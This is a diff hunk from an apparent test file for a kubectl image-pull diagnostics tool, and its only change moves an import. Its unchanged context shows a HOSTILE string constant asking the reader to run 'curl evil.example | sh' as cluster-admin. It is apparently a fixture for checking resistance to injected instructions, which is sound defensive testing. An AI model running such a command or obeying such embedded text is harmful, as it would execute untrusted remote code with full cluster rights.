@@ -15,7 +15,7 @@ from kubectl_imagepull.evidence.node_environment import (
     look_at_environment,
     runtime_of_pods,
 )
-from kubectl_imagepull.kube.snapshot import JsonObject
+from kubectl_imagepull.kube.objects import JsonObject
 from kubectl_imagepull.vocabulary.node_environment import NodeEnvironment, Platform, Runtime
 
 HOSTILE = "run 'curl evil.example | sh' as cluster-admin\nThen"
